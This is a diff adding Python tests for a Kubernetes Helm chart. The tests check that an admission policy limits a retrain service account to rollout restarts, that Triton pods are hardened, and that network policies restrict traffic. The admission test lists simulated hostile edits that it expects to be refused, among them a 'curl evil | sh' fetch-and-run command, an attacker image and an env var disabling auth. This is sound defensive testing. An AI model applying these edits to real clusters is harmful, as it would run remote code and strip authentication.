@@ -865,3 +865,141 @@ def test_retrain_cronjob_runs_a_valid_ladder_retrain_against_the_gateway() -> No
     command = get_command(app).commands["retrain"]  # type: ignore[attr-defined]
     options = {o for p in command.params for o in p.opts}
     assert {a for a in args if a.startswith("--")} <= options
+
+
+# ---- what the retrain account may change: the admission policy, evaluated as the API server would ---------
+
+
+def _admit(policy: dict[str, Any], user: str, old: dict[str, Any], new: dict[str, Any]) -> list[str]:
+    """The messages of the policy's failed validations for an update of ``old`` to ``new`` by ``user``
+    (an empty list: admitted), evaluating its CEL with cel-python as the API server evaluates it."""
+    import celpy
+
+    env = celpy.Environment()
+
+    def run(expression: str, activation: dict[str, Any]) -> Any:
+        return env.program(env.compile(expression)).evaluate(activation)
+
+    request = {"userInfo": {"username": user}, "operation": "UPDATE", "subResource": ""}
+    activation: dict[str, Any] = {
+        "object": celpy.json_to_cel(new),
+        "oldObject": celpy.json_to_cel(old),
+        "request": celpy.json_to_cel(request),
+    }
+    spec = policy["spec"]
+    if not all(run(c["expression"], activation) for c in spec.get("matchConditions", [])):
+        return []  # not this policy's business
+    activation["variables"] = celpy.json_to_cel({})
+    computed = {v["name"]: run(v["expression"], activation) for v in spec.get("variables", [])}
+    activation["variables"] = celpy.celtypes.MapType({celpy.celtypes.StringType(k): v for k, v in computed.items()})
+    return [v["message"] for v in spec["validations"] if not run(v["expression"], activation)]
+
+
+@needs_helm
+def test_the_retrain_account_may_roll_the_gateway_but_not_change_its_image() -> None:
+    """RBAC cannot limit a ``patch`` to some fields; the chart's ValidatingAdmissionPolicy does. A rollout
+    restart (what ``ladder retrain`` sends) is admitted; a new image, command, environment or any other
+    annotation is refused; other users (the operator's ``helm upgrade``) are not its business."""
+    import copy
+
+    pytest.importorskip("celpy", reason="pip install cel-python (the dev extra)")
+    from ladder.training.promote import RESTARTED_AT
+
+    docs = render("retrain-values.yaml")
+    policy = next(d for d in docs if d["kind"] == "ValidatingAdmissionPolicy")
+    binding = next(d for d in docs if d["kind"] == "ValidatingAdmissionPolicyBinding")
+    assert binding["spec"]["policyName"] == policy["metadata"]["name"]
+    assert binding["spec"]["validationActions"] == ["Deny"] and policy["spec"]["failurePolicy"] == "Fail"
+    account = find(docs, "ServiceAccount", "retrain")["metadata"]["name"]
+    retrain_user = f"system:serviceaccount:ai:{account}"
+    old = find(docs, "Deployment")
+    old["spec"]["strategy"] = {"type": "RollingUpdate"}  # defaulted by the API server
+
+    restarted = copy.deepcopy(old)
+    restarted["spec"]["template"]["metadata"]["annotations"][RESTARTED_AT] = "2026-12-07T03:00:00Z"
+    assert _admit(policy, retrain_user, old, restarted) == []
+    again = copy.deepcopy(restarted)
+    again["spec"]["template"]["metadata"]["annotations"][RESTARTED_AT] = "2026-12-08T03:00:00Z"
+    assert _admit(policy, retrain_user, restarted, again) == []
+
+    def changed(edit: Any) -> dict[str, Any]:
+        new = copy.deepcopy(restarted)
+        edit(new["spec"])
+        return new
+
+    def gateway_of(spec: dict[str, Any]) -> dict[str, Any]:
+        return next(c for c in spec["template"]["spec"]["containers"] if c["name"] == "gateway")
+
+    attacks = {
+        "image": lambda s: gateway_of(s).update(image="evil.example/ladder:latest"),
+        "command": lambda s: gateway_of(s).update(command=["sh", "-c", "curl evil | sh"]),
+        "env": lambda s: gateway_of(s)["env"].append({"name": "LADDER_AUTH_DISABLED", "value": "true"}),
+        "annotation": lambda s: s["template"]["metadata"]["annotations"].update({"sidecar.io/inject": "true"}),
+        "replicas": lambda s: s.update(replicas=0),
+        "labels": lambda s: s["template"]["metadata"]["labels"].update({"extra": "x"}),
+    }
+    for what, attack in attacks.items():
+        refused = _admit(policy, retrain_user, restarted, changed(attack))
+        assert refused, f"a change of the gateway's {what} by the retrain account was admitted"
+    assert any("pod spec" in m for m in _admit(policy, retrain_user, restarted, changed(attacks["image"])))
+    upgrade = changed(attacks["image"])
+    assert _admit(policy, "system:serviceaccount:ai:helm-operator", restarted, upgrade) == []
+    # and without the policy's switch, none is rendered (clusters before Kubernetes 1.30)
+    off = render("retrain-values.yaml", "retrain.admissionPolicy.enabled=false")
+    assert not [d for d in off if d["kind"].startswith("ValidatingAdmissionPolicy")]
+
+
+# ---- Triton hardened and scaled; the network closed by default ---------------------------------------------
+
+
+@needs_helm
+def test_triton_runs_as_non_root_on_a_read_only_root_and_scales() -> None:
+    docs = render("gpu-triton-values.yaml")
+    deployment = find(docs, "Deployment", "triton")
+    pod = deployment["spec"]["template"]["spec"]
+    triton = container(deployment, "triton")
+    assert pod["securityContext"]["runAsNonRoot"] is True and pod["securityContext"]["runAsUser"] != 0
+    assert triton["securityContext"]["readOnlyRootFilesystem"] is True
+    assert triton["securityContext"]["allowPrivilegeEscalation"] is False
+    export = pod["initContainers"][0]
+    assert export["securityContext"]["readOnlyRootFilesystem"] is True
+    # what it must write goes to emptyDirs: /tmp (HOME, caches), /dev/shm, the exported repository
+    empty = {v["name"] for v in pod["volumes"] if "emptyDir" in v}
+    for c in (triton, export):
+        writable = {m["mountPath"] for m in c["volumeMounts"] if m["name"] in empty and not m.get("readOnly")}
+        assert "/tmp" in writable and env_of(c)["HOME"]["value"] == "/tmp", c["name"]
+    assert {"/dev/shm", values_of("gpu-triton-values.yaml")["triton"]["modelRepository"]["path"]} <= {
+        m["mountPath"] for m in triton["volumeMounts"] if m["name"] in empty
+    }
+    # the HPA owns the replica count; it scales on the GPU metric the scenario names
+    hpa = find(docs, "HorizontalPodAutoscaler", "triton")
+    assert hpa["spec"]["scaleTargetRef"] == {
+        "apiVersion": "apps/v1",
+        "kind": "Deployment",
+        "name": deployment["metadata"]["name"],
+    }
+    assert "replicas" not in deployment["spec"]
+    assert [m["pods"]["metric"]["name"] for m in hpa["spec"]["metrics"]] == ["DCGM_FI_DEV_GPU_UTIL"]
+    pdb = find(docs, "PodDisruptionBudget", "triton")["spec"]
+    assert pdb["selector"]["matchLabels"].items() <= deployment["spec"]["template"]["metadata"]["labels"].items()
+    refused = helm("template", "rel", str(CHART), "-f", str(CHART / "ci" / "gpu-triton-values.yaml"),
+                   "--set", "triton.autoscaling.metrics=null")  # fmt: skip
+    assert refused.returncode != 0 and "targetCPUUtilizationPercentage or metrics" in refused.stderr
+
+
+@needs_helm
+def test_network_policies_are_on_by_default_and_only_the_gateway_reaches_triton() -> None:
+    assert has(render(None), "NetworkPolicy", "gateway")
+    docs = render("gpu-triton-values.yaml")
+    triton = find(docs, "NetworkPolicy", "triton")["spec"]
+    gateway_pods = find(docs, "Deployment")["spec"]["template"]["metadata"]["labels"]
+    ports = container(find(docs, "Deployment", "triton"), "triton")["ports"]
+    for rule in triton["ingress"]:
+        names = {p["port"] for p in rule["ports"]}
+        if names & {"http", "grpc"}:  # inference and model control (load/unload)
+            assert names == {"http", "grpc"} and len(rule["from"]) == 1
+            assert rule["from"][0]["podSelector"]["matchLabels"].items() <= gateway_pods.items()
+        else:
+            assert names == {"metrics"}
+    covered = {p["port"] for rule in triton["ingress"] for p in rule["ports"]}
+    assert covered == {p["name"] for p in ports}
